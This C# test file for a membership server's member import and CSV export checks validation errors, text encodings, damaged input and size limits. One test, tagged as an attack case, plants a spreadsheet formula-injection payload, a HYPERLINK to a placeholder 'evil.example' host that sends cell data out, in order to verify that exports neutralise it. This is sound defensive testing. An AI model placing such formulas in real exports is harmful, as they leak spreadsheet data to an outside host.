using System.Text;
using System.Text.Json;
using Laurel.ServerTests.Hosting;
using Laurel.ServerTests.SigningIn;
using Laurel.ServerTests.Tenants;
using Laurel.Testing;
using Shouldly;
using Xunit;

namespace Laurel.ServerTests.Persons;

/// <summary>Files of members over HTTP: looked at, taken, sent again, and what is wrong with their rows.</summary>
public sealed class ImportingMembersTests(DatabaseServers cluster)
{
    private const string Profile = """
        {"attributes":[{"code":"shoe","nameEnglish":"Shoe size","nameChinese":"鞋码","type":"number","min":20,"max":60},
         {"code":"vegan","nameEnglish":"Vegan","nameChinese":"素食","type":"boolean"}],"completeFields":["nickname","phone","birthday"]}
        """;

    private const string File = """
        externalId,nickname,phone,email,gender,birthday,realName,attributes.shoe,attributes.vegan,registeredAt
        imp-1,小明,13900010001,ming@example.org,male,1990-05-12,王小明,42,true,2024-03-01
        imp-2,"Li, Wei",13900010002,,,,,,,2024-03-01T10:00:00+08:00
        imp-3,,,,,,,,,

        """;

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData(DatabaseUnderTest.Sqlite)]
    [InlineData(DatabaseUnderTest.Postgres)]
    [InlineData(DatabaseUnderTest.MySql)]
    public async Task EnrolsEachOnce_When_AFileIsLookedAtTakenAndSentAgain(DatabaseUnderTest database)
    {
        await using var site = await LaurelSite.CreateAsync(database, cluster, Cancellation);
        await using var server = await OpenAsync(site);
        await using var other = await server.NewTenantAsync("other");

        (await ImportAsync(server, File, dryRun: true)).Text.ShouldBe(
            """{"dryRun":true,"rows":3,"created":3,"existing":0,"failed":0,"errors":[],"errorsOmitted":0}""");
        (await server.GetAsync("/api/members?externalId=imp-1")).Json.GetProperty("items").GetArrayLength().ShouldBe(0);
        Figures(await ImportAsync(server, File)).ShouldBe((3, 3, 0, 0));
        Figures(await ImportAsync(server, File + "imp-4,four\n")).ShouldBe((4, 0, 3, 1));
        Figures(await ImportAsync(server, File + "imp-4,four,,,,,,,,\n", dryRun: true)).ShouldBe((4, 1, 3, 0));

        var member = (await server.GetAsync("/api/members?externalId=imp-1")).Json.GetProperty("items")[0];
        var profile = member.GetProperty("profile");
        (member.GetProperty("nickname").GetString(), member.GetProperty("phone").GetString(), member.GetProperty("email").GetString())
            .ShouldBe(("小明", "139****0001", "m***@example.org"));
        (profile.GetProperty("realName").GetString(), profile.GetProperty("birthday").GetString()).ShouldBe(("王**", "****-05-12"));
        profile.GetProperty("version").GetInt64().ShouldBe(1);
        (profile.GetProperty("attributes").GetProperty("shoe").GetInt64(), profile.GetProperty("attributes").GetProperty("vegan").GetBoolean()).ShouldBe((42, true));
        member.GetProperty("registeredAt").GetDateTimeOffset().ShouldBe(new DateTimeOffset(2024, 3, 1, 0, 0, 0, TimeSpan.FromHours(8)));

        // What enrolling gave in 2024 has lapsed; being complete is paid for now, once.
        (await server.PointsAsync(member.GetProperty("id").GetString()!)).Available.ShouldBe(50);
        var second = (await server.GetAsync("/api/members?phone=13900010002")).Json.GetProperty("items")[0];
        (second.GetProperty("nickname").GetString(), second.GetProperty("registeredAt").GetDateTimeOffset().ToUnixTimeSeconds()).ShouldBe(("Li, Wei", 1_709_258_400));
        (await server.PointsAsync(second.GetProperty("id").GetString()!)).Available.ShouldBe(0);
        (await other.GetAsync("/api/members")).Json.GetProperty("items").GetArrayLength().ShouldBe(0);
        await site.VerifyAsync(Cancellation);
    }

    [Fact]
    public async Task TellsEachFaultAtItsPlace_When_RowsAreBad()
    {
        await using var site = await LaurelSite.CreateAsync(DatabaseUnderTest.Sqlite, cluster, Cancellation);
        await using var server = await OpenAsync(site);

        var answer = await ImportAsync(server, """
            externalId,phone,birthday,attributes.shoe,registeredAt
            bad-1,12,1890-01-01,99,
            good-1,13900010003,,,2024-03-01
            bad-2,,,,tomorrow
            good-1,,,,
            bad-3,"13
            ,,,,
            bad-4,,,
            bad-5,,,x,2999-01-01

            """, language: "zh");

        Figures(answer).ShouldBe((8, 1, 0, 7));
        Errors(answer).ShouldBe(
        [
            "2 INVALID_FORMAT phone", "2 OUT_OF_RANGE birthday", "2 OUT_OF_RANGE attributes.shoe", "4 INVALID_FORMAT registeredAt", "5 NOT_UNIQUE externalId",
            "6 INVALID_FORMAT ", "7 REQUIRED externalId", "8 INVALID_FORMAT ", "9 OUT_OF_RANGE registeredAt",
        ], ignoreOrder: true);
        answer.Text.ShouldContain("此字段必填");
        (await server.GetAsync("/api/members?externalId=good-1")).Json.GetProperty("items").GetArrayLength().ShouldBe(1);
        (await ImportAsync(server, "externalId,points,externalId\nx,1,y\n")).Faults.ShouldBe(["UNKNOWN_FIELD /points", "DUPLICATE_FIELD /externalId"], ignoreOrder: true);
        (await ImportAsync(server, "nickname\nx\n")).Faults.ShouldBe(["REQUIRED /externalId"]);
        (await ImportAsync(server, "")).Faults.ShouldBe(["INVALID_FORMAT"]);
        (await ImportAsync(server, "externalId\n" + string.Concat(Enumerable.Range(0, 10_001).Select(i => $"m{i}\n")), dryRun: true)).Faults.ShouldBe(["TOO_MANY"]);
        (await ImportAsync(server, File, mediaType: "application/pdf")).Outcome.ShouldBe("415 MEDIA_TYPE_UNSUPPORTED");
        (await ImportAsync(server, new byte[(8 * 1024 * 1024) + 1])).Outcome.ShouldBe("413 BODY_TOO_LARGE");
    }

    [Fact]
    public async Task ReadsOtherForms_When_TheFileIsOfASpreadsheetOrOfAProgram()
    {
        await using var site = await LaurelSite.CreateAsync(DatabaseUnderTest.Sqlite, cluster, Cancellation);
        await using var server = await OpenAsync(site);
        var chinese = CodePagesEncodingProvider.Instance.GetEncoding("gb18030")!.GetBytes("externalId,nickname\r\ngb-1,张三\r\n");

        Figures(await ImportAsync(server, chinese)).ShouldBe((1, 1, 0, 0));
        Figures(await ImportAsync(server, [.. Encoding.UTF8.Preamble, .. "externalId,nickname\nbom-1,李四\n"u8])).ShouldBe((1, 1, 0, 0));
        var lines = await ImportAsync(
            server,
            """
            {"externalId":"json-1","nickname":"Wang","attributes":{"shoe":40},"privacy":{"searchable":false}}

            {"externalId":"json-2","points":5}
            [{"externalId":"json-3"}]
            {"externalId":
            """,
            mediaType: "application/x-ndjson");

        Figures(lines).ShouldBe((4, 1, 0, 3));
        Errors(lines).ShouldBe(["3 UNKNOWN_FIELD points", "4 INVALID_FORMAT ", "5 BODY_MALFORMED "]);
        foreach (var (id, name) in new[] { ("gb-1", "张三"), ("bom-1", "李四"), ("json-1", "Wang") })
        {
            (await server.GetAsync("/api/members?externalId=" + id)).Json.GetProperty("items")[0].GetProperty("nickname").GetString().ShouldBe(name);
        }
    }

    [Fact]
    public async Task TellsOfDamageAndEnds_When_BytesAreBadAndRowsHaveNoEnd()
    {
        await using var site = await LaurelSite.CreateAsync(DatabaseUnderTest.Sqlite, cluster, Cancellation);
        await using var server = await OpenAsync(site);
        var whole = Encoding.UTF8.GetBytes("externalId,nickname\ncut-1,张三\ncut-2,李四\ncut-3,王五");

        // Cut within the last character, one bad byte in the middle, and both in a file of one name alone.
        var cut = await ImportAsync(server, whole[..^1]);
        (Figures(cut), string.Join(';', Errors(cut))).ShouldBe(((3, 2, 0, 1), "4 INVALID_FORMAT nickname"));
        cut.Text.ShouldContain("characters are whole");
        var damaged = whole.ToArray();
        damaged[Encoding.UTF8.GetByteCount("externalId,nickname\ncut-1,张三\ncut-2,李")] = 0xFF;
        var answer = await ImportAsync(server, damaged);
        (Figures(answer), string.Join(';', Errors(answer))).ShouldBe(((3, 1, 1, 1), "3 INVALID_FORMAT nickname"));
        Figures(await ImportAsync(server, [.. "externalId,nickname\ncut-4,"u8, 0xE4, 0xBD])).ShouldBe((1, 0, 0, 1));
        (await server.GetAsync("/api/members?externalId=cut-1")).Json.GetProperty("items")[0].GetProperty("nickname").GetString().ShouldBe("张三");

        // A quote that is never closed on each line, and a line without an end.
        var open = "externalId,nickname\n" + string.Concat(Enumerable.Repeat("x,\"\n", 2_000_000));
        (await ImportAsync(server, open, dryRun: true)).Faults.ShouldBe(["TOO_MANY"]);
        var endless = await ImportAsync(server, "externalId,nickname\nlong-1,a\n" + new string('x', 7_000_000));
        (Figures(endless), string.Join(';', Errors(endless))).ShouldBe(((2, 1, 0, 1), "3 TOO_LONG "));
    }

    [Theory]
    [InlineData(DatabaseUnderTest.Sqlite)]
    [InlineData(DatabaseUnderTest.Postgres)]
    [InlineData(DatabaseUnderTest.MySql)]
    [Trait("Attack", "E7")]
    public async Task GivesNoSpreadsheetAFormula_When_MembersAndRecordsAreExported(DatabaseUnderTest database)
    {
        await using var site = await LaurelSite.CreateAsync(database, cluster, Cancellation);
        await using var server = await OpenAsync(site);
        await using var other = await server.NewTenantAsync("other");
        await other.RegisterAsync("far");
        const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"a, b\")";
        var member = (await server.PostAsync("/api/members", new { externalId = "x-1", nickname = Formula, phone = "13900010009" })).TextOf("id")!;
        Figures(await ImportAsync(server, "externalId,nickname\n" + string.Concat(Enumerable.Range(0, 450).Select(i => $"m-{i},@{i}\n")))).ShouldBe((450, 450, 0, 0));
        var taken = new { memberId = member, points = -30, reason = "-1+1 \"x\"", referenceType = "test", referenceId = "+49" };
        (await server.PostAsync("/api/points/adjust", taken)).Status.ShouldBe(200);

        var members = Rows(await server.GetAsync("/api/members/export"));
        members.Count.ShouldBe(452);
        members[0][..4].ShouldBe(["member_id", "member_code", "external_id", "nickname"]);
        var row = members.Single(fields => fields[0] == member);
        (row[3], row[4], row[9], row.Length).ShouldBe(("'" + Formula, "139****0009", "70", members[0].Length));
        members.Skip(1).Count(fields => fields[3].StartsWith("'@", StringComparison.Ordinal)).ShouldBe(450);
        members.Select(fields => fields[2]).ShouldNotContain("far");
        Rows(await server.GetAsync("/api/members/export?externalId=m-7")).Select(fields => fields[2]).ShouldBe(["external_id", "m-7"]);
        Rows(await server.GetAsync("/api/members/export?externalId=nobody")).Count.ShouldBe(1);
        Rows(await server.GetAsync("/api/members/export?status=frozen")).Count.ShouldBe(1);
        Rows(await server.GetAsync("/api/members/export?status=active&level=bronze")).Count.ShouldBe(452);
        (await server.GetAsync("/api/members/export?limit=5")).Faults.ShouldBe(["UNKNOWN_FIELD limit"]);

        var records = Rows(await server.GetAsync("/api/points/records/export?unit=points"));
        records.Count.ShouldBe(453);
        var adjusted = records.Single(fields => fields[3] == "adjust");
        (adjusted[1], adjusted[5], adjusted[6], adjusted[7], adjusted[9]).ShouldBe((member, "-30", "70", "'-1+1 \"x\"", "'+49"));
        Rows(await server.GetAsync($"/api/points/records/export?memberId={member}&kind=adjust")).Count.ShouldBe(2);
        (await server.GetAsync("/api/points/records/export?cursor=x")).Faults.ShouldContain("UNKNOWN_FIELD cursor");
    }

    /// <summary>Reads CSV by the letter of RFC 4180, and by nothing of the product's.</summary>
    private static List<string[]> Rows(Answer answer)
    {
        (answer.Status, answer.MediaType).ShouldBe((200, "text/csv"));
        answer.Body[..3].ShouldBe(Encoding.UTF8.Preamble.ToArray());
        var (text, rows, row, field, quoted) = (Encoding.UTF8.GetString(answer.Body[3..]), new List<string[]>(), new List<string>(), new StringBuilder(), false);
        for (var i = 0; i < text.Length; i++)
        {
            switch (text[i])
            {
                case '"' when quoted && i + 1 < text.Length && text[i + 1] == '"':
                    field.Append(text[i++]);
                    break;
                case '"':
                    quoted = !quoted;
                    break;
                case ',' when !quoted:
                    row.Add(field.ToString());
                    field.Clear();
                    break;
                case '\r' when !quoted && text[i + 1] == '\n':
                    row.Add(field.ToString());
                    rows.Add([.. row]);
                    row.Clear();
                    field.Clear();
                    i++;
                    break;
                default:
                    field.Append(text[i]);
                    break;
            }
        }

        quoted.ShouldBeFalse();
        return rows;
    }

    private static async Task<LaurelServer> OpenAsync(LaurelSite site)
    {
        var server = await LaurelServer.StartAsync(site, Cancellation);
        var programme = JsonSerializer.Deserialize<Dictionary<string, JsonElement>>((await server.GetAsync("/api/programme")).Text)!;
        programme["profile"] = JsonDocument.Parse(Profile).RootElement;
        var body = JsonSerializer.SerializeToUtf8Bytes(programme);
        (await server.SendAsync(LaurelServer.Request(HttpMethod.Put, "/api/programme", body, LaurelServer.Json))).Status.ShouldBe(200);
        return server;
    }

    private static Task<Answer> ImportAsync(LaurelServer server, string file, bool dryRun = false, string mediaType = "text/csv", string language = "en") =>
        ImportAsync(server, Encoding.UTF8.GetBytes(file), dryRun, mediaType, language);

    private static Task<Answer> ImportAsync(LaurelServer server, byte[] file, bool dryRun = false, string mediaType = "text/csv", string language = "en")
    {
        var request = LaurelServer.Request(HttpMethod.Post, dryRun ? "/api/members/import?dryRun=true" : "/api/members/import", file, mediaType);
        request.Headers.AcceptLanguage.ParseAdd(language);
        return server.SendAsync(request);
    }

    private static (int Rows, int Created, int Existing, int Failed) Figures(Answer answer)
    {
        answer.Status.ShouldBe(200, answer.Text);
        int Of(string name) => answer.Json.GetProperty(name).GetInt32();
        return (Of("rows"), Of("created"), Of("existing"), Of("failed"));
    }

    private static IEnumerable<string> Errors(Answer answer) => answer.Json.GetProperty("errors").EnumerateArray()
        .Select(error => $"{error.GetProperty("line").GetInt32()} {error.GetProperty("code").GetString()} {error.GetProperty("column").GetString()}");
}
